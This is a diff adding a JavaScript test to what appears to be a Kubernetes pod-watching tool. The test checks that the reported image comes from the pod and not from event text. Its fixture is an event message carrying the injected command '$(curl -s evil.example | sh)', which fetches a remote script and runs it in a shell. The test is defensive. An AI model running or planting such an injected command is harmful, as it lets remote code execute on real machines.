@@ -22,6 +22,16 @@ describe('a pull', () => {
     });
   });
 
+  test('is of an image of the pod, whatever an event names', () => {
+    const foreign = event('Pulling', 'Pulling image "$(curl -s evil.example | sh)"', { of: 'step' });
+    const seen = [
+      { at: 0, pod: creating },
+      { at: 1000, event: foreign },
+    ];
+    const found = findingAt(stateAfter(seen, { pullTimeoutMs: 60_000 }), 61_000);
+    expect(found).toMatchObject({ image: 'app:1', message: expect.not.stringContaining('evil') });
+  });
+
   test('that neither ends nor fails goes on where another policy is left: the node can’t be made to stop', () => {
     const seen = [
       { at: 0, pod: creating },
